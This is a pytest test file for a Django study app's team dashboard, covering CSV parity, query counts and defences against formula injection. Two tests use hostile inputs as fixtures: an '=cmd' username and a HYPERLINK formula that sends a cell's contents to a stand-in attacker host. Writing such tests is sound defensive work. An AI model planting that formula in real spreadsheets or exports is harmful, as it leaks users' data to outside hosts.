"""The CSV holds exactly the figures the dashboard shows; the dashboard is a
fixed number of queries whatever the team's size."""

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from studyapp.notes.models import Card
from tests.teams.conftest import Studied, answer, assign, study, team_with, user
from tests.teams.dashboard_html import dashboard_cells, dashboard_tables

pytestmark = pytest.mark.django_db


def build_team(size: int, *, prefix: str = "m"):
    """A lead and ``size`` members who each studied some cards; every other one shares details."""
    cards = list(Card.objects.order_by("note__note_id", "position"))
    question = next(c for c in cards if c.kind == "question")
    lead = user(f"{prefix}lead")
    members = [user(f"{prefix}{i:03d}") for i in range(size)]
    team = team_with(lead, members, share=tuple(m.username for m in members[::2]))
    assign(team)
    now = timezone.now()
    today = (now - timezone.timedelta(hours=4)).date()
    for i, member in enumerate(members):
        study(member, now, [Studied(c, 3 + i, 1 + i % 5) for c in cards[: 5 + i % 15]])
        answer(member, cards[0], day=today, at=now)
        answer(member, question, day=today, at=now, chosen=["B"] if i % 2 else ["A", "C"], score=0.0 if i % 2 else 1.0)
    return team, lead


def page_table(body: str) -> tuple[list[str], list[list[str]]]:
    """The dashboard's two tables (what every member shares; the details of
    those who share them) joined into one, as the CSV has it: the headers,
    and a row per member, with "" where the page shows nothing."""
    keys, headers = [], []
    for columns, _rows in dashboard_tables(body):
        for key, header in columns:
            if key not in keys:
                keys.append(key)
                headers.append(header)
    cells = dashboard_cells(body)
    return headers, [[values.get(key, "") for key in keys] for values in cells.values()]


def test_the_csv_holds_the_same_figures_as_the_page(client, deck):
    team, lead = build_team(5)
    client.force_login(lead)
    body = client.get(reverse("team_dashboard", args=[team.pk])).content.decode()
    response = client.get(reverse("team_dashboard_csv", args=[team.pk]))
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    header, data = rows[0], rows[1:]
    page_header, shown = page_table(body)
    assert len(shown) == 6
    assert header == page_header
    assert data == shown
    assert header[:3] == ["Member", "Role", "Cards studied"]
    # Details only where shared: the members who do not share have empty detail cells in both.
    shares = header.index("Shares details")
    for row in data:
        if row[shares] == "no":
            assert all(value == "" for value in row[shares + 1 :])


def test_a_hostile_name_stays_text_in_the_csv(client, deck):
    lead = user("lead")
    team = team_with(lead, [user("=cmd")])  # a username may start with "=" only by hand (admin, shell)
    assign(team)
    client.force_login(lead)
    rows = list(
        csv.reader(io.StringIO(client.get(reverse("team_dashboard_csv", args=[team.pk])).content.decode("utf-8-sig")))
    )
    assert [row[0] for row in rows if row[0].endswith("=cmd")] == ["'=cmd"]


def dashboard_queries(client, team, lead) -> int:
    client.force_login(lead)
    url = reverse("team_dashboard", args=[team.pk])
    assert client.get(url).status_code == 200  # computes the snapshots (immediate backend)
    with CaptureQueriesContext(connection) as queries:
        assert client.get(url).status_code == 200
    return len(queries)


def test_the_dashboard_takes_as_many_queries_for_a_big_team_as_for_a_small_one(client, deck):
    small = dashboard_queries(client, *build_team(3, prefix="s"))
    big = dashboard_queries(client, *build_team(12, prefix="b"))
    assert small == big
    assert small <= 10


def test_the_csv_takes_as_many_queries_for_a_big_team_as_for_a_small_one(client, deck):
    def count(team, lead):
        client.force_login(lead)
        url = reverse("team_dashboard_csv", args=[team.pk])
        client.get(url)
        with CaptureQueriesContext(connection) as queries:
            client.get(url)
        return len(queries)

    assert count(*build_team(3, prefix="s")) == count(*build_team(12, prefix="b"))


def test_a_formula_in_a_domain_name_stays_text_in_the_csv_header(client, db):
    """A note's domain is free text: the dashboard's column for it is named
    after it, and its CSV header must not be a formula either."""
    from studyapp.notes.services import NoteReport, note_import
    from tests import samples

    hostile = '=HYPERLINK("https://evil.example/?"&A2,"Click")'
    text = samples.CANONICAL.replace('domain: "Design for New Solutions"', "domain: '" + hostile + "'")
    assert note_import(raw=text.encode(), report=NoteReport(path="x.md")).status == "created"
    lead, members = user("lead"), [user(f"m{i}") for i in range(3)]
    team = team_with(lead, members, share=tuple(m.username for m in members))
    assign(team)
    client.force_login(lead)
    rows = list(
        csv.reader(io.StringIO(client.get(reverse("team_dashboard_csv", args=[team.pk])).content.decode("utf-8-sig")))
    )
    assert "'" + hostile in rows[0]
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
